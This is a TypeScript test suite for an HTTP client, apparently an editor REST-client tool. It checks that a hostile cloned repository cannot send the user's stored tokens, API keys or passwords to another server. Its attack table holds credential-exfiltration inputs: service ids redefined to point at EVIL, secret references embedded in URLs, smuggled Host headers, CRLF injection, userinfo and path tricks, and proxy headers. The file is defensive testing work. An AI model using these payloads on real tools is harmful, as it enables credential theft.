import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { newSecret } from '../../rig/secrets';
import { ok, useServers } from '../support/servers';
import { holdsNone, outcomeWords, useBench, utf8 } from './bench';

/*
 * A cloned repository is hostile: its settings define services, its `.http` files hold requests. The person has a bearer
 * token for `bank`, an API key for `keyed` and a password for `login`, all at one server; the repository may send none of
 * them anywhere else, and where a definition of its own takes the place of the person's, no secret follows it.
 */

describe('a hostile repository', () => {
  const servers = useServers();
  const bench = useBench();

  async function scene() {
    const one = bench();
    const [home, evil] = [await servers.http(ok), await servers.http(ok)];
    const secrets = { token: newSecret(), key: newSecret(), password: newSecret() };
    await one.bearer('bank', home.origin, secrets.token);
    one.define('keyed', `${home.origin}/keyed`, { scheme: 'apiKey', in: 'header', name: 'X-Key' });
    await one.store('keyed', 'key', secrets.key);
    one.define('login', `${home.origin}/login`, { scheme: 'basic', username: 'ada' });
    await one.store('login', 'password', secrets.password);
    return { one, home, evil, all: Object.values(secrets), secrets };
  }

  type Definition = readonly [id: string, baseUrl: string, auth: object, more?: object];
  const bearer = { scheme: 'bearer' };

  // The definitions it brings, the request it brings, and what comes of it. Nothing may reach the other server.
  const attacks: readonly (readonly [
    name: string,
    definitions: readonly Definition[],
    text: string,
    expected: string,
  ])[] = [
    [
      'takes the id, with its own address',
      [['bank', 'EVIL', bearer]],
      '# @service bank\nGET /',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'takes the id, and asks by reference',
      [['bank', 'EVIL', bearer]],
      'GET EVIL/?t={{$auth.token("bank")}}',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'takes the id, with another scheme',
      [['bank', 'EVIL', { scheme: 'apiKey', in: 'query', name: 'q' }]],
      'GET EVIL/',
      'originUnconfirmed bank key EVIL|secretMissing bank key',
    ],
    [
      'takes the id of the key, to another place',
      [['keyed', 'EVIL', { scheme: 'apiKey', in: 'query', name: 'q' }]],
      'GET EVIL/',
      'originUnconfirmed keyed key EVIL',
    ],
    [
      'takes the id of the password',
      [['login', 'EVIL', { scheme: 'basic', username: 'x' }]],
      'GET EVIL/',
      'originUnconfirmed login password EVIL',
    ],
    [
      'takes the id in a second spelling of the host',
      [['bank', 'http://localhost:HOMEPORT', bearer]],
      '# @service bank\nGET /',
      'originUnconfirmed bank token http://localhost:HOMEPORT',
    ],
    [
      'takes the id with https for http',
      [['bank', 'https://127.0.0.1:HOMEPORT', bearer, { verifyTls: false }]],
      '# @service bank\nGET /',
      'tlsUnconfirmed bank https://127.0.0.1:HOMEPORT',
    ],
    [
      'takes the id for its test',
      [['bank', 'EVIL', bearer, { test: 'POST /collect' }]],
      'TEST bank',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'refers to the secret at its own address',
      [],
      'GET EVIL/{{$secret bank token}}',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'refers to it through variables',
      [],
      '@a = {{b}}\n@b = {{$auth.token("bank")}}\nPOST EVIL/\n\n{{a}}',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'refers to it under a service of its own',
      [['mine', 'EVIL', { scheme: 'none' }]],
      '# @service mine\nGET /?{{$secret keyed key}}',
      'originUnconfirmed keyed key EVIL',
    ],
    ['names the service, with its own address', [], '# @service bank\nGET EVIL/', 'originUnconfirmed bank token EVIL'],
    [
      'names the service, with an address that only looks like it, and so writes its own user info',
      [],
      '# @service bank\nGET HOME@127.0.0.1:EVILPORT/',
      '200, at the other server',
    ],
    [
      'names the service, with its own Host',
      [],
      '# @service bank\nGET /\nHost: 127.0.0.1:EVILPORT',
      'originUnconfirmed bank token EVIL',
    ],
    [
      'names the service, with a second Host',
      [],
      '# @service bank\nGET /\nHost: 127.0.0.1:HOMEPORT\nHost: 127.0.0.1:EVILPORT',
      'originUnconfirmed bank token EVIL',
    ],
    ['a path that is an address', [], '# @service bank\nGET //127.0.0.1:EVILPORT/', '200'],
    ['a path that would be user info', [], '# @service bank\nGET /@127.0.0.1:EVILPORT/', '200'],
    ['a path with backslashes', [], '# @service bank\nGET /\\\\127.0.0.1:EVILPORT/', '200'],
    ['a line end in the path', [], '@n = %0d%0aHost:%20evil\n# @service bank\nGET /{{n}}', '200'],
    ['an address in absolute form inside the path', [], '# @service bank\nGET /http://127.0.0.1:EVILPORT/', '200'],
    [
      'a proxy written as a header',
      [],
      '# @service bank\nGET /\nProxy: http://127.0.0.1:EVILPORT\nForwarded: host=evil',
      '200',
    ],
    ['a scheme without a secret over the same address', [['mine', 'HOME', { scheme: 'none' }]], 'GET HOME/', '200'],
  ];
  for (const [name, definitions, text, expected] of attacks) {
    it(`${name}: ${expected}`, async () => {
      const { one, home, evil, all, secrets } = await scene();
      const put = (line: string): string =>
        line
          .replaceAll('HOMEPORT', String(home.port))
          .replaceAll('EVILPORT', String(evil.port))
          .replaceAll('HOME', home.origin)
          .replaceAll('EVIL', evil.origin);
      for (const [id, baseUrl, auth, more] of definitions) one.define(id, put(baseUrl), auth, more, 'workspace');
      assert.deepEqual(
        one.core.services.problems.filter(({ detail }) => detail.code !== 'shadowed'),
        [],
      );
      const outcome = text.startsWith('TEST ') ? await one.test(text.slice(5)) : await one.send(put(text));
      const elsewhere = expected.endsWith('other server');
      assert.ok(expected.split(/[|,]/).map(put).includes(outcomeWords(outcome)), outcomeWords(outcome));
      assert.equal(evil.received.length, elsewhere ? 1 : 0, 'what reached the other server');
      if (!elsewhere) assert.equal(evil.connections(), 0);
      holdsNone('what it received', utf8(evil.bytes()), all);
      if (outcome.kind !== 'finished') assert.equal(home.connections(), 0);
      // Where it was sent to the right server, it carried its own credential at the most, on one request.
      const named = text.includes('# @service bank');
      holdsNone('what the server received', home.bytes(), named ? [secrets.key, secrets.password] : all);
      assert.ok(home.received.length <= 1);
    });
  }

  it('a definition of the same address may move the key, but the key stays at its origin', async () => {
    const { one, home, evil, secrets } = await scene();
    one.define('keyed', `${home.origin}/keyed`, { scheme: 'apiKey', in: 'query', name: 'q' }, {}, 'workspace');
    assert.equal(outcomeWords(await one.send(`GET ${home.origin}/keyed`)), '200');
    assert.equal(home.received[0]?.url === `/keyed?q=${secrets.key}`, true);
    assert.equal(evil.connections(), 0);
  });

  it('once the repository is gone, all is as before', async () => {
    const { one, home, evil, secrets } = await scene();
    one.define('bank', evil.origin, bearer, {}, 'workspace');
    await one.send('# @service bank\nGET /');
    one.ports.definitions.edit('workspace', undefined);
    assert.equal(outcomeWords(await one.send('# @service bank\nGET /')), '200');
    assert.equal(home.received[0]?.headers.authorization === `Bearer ${secrets.token}`, true);
  });
});
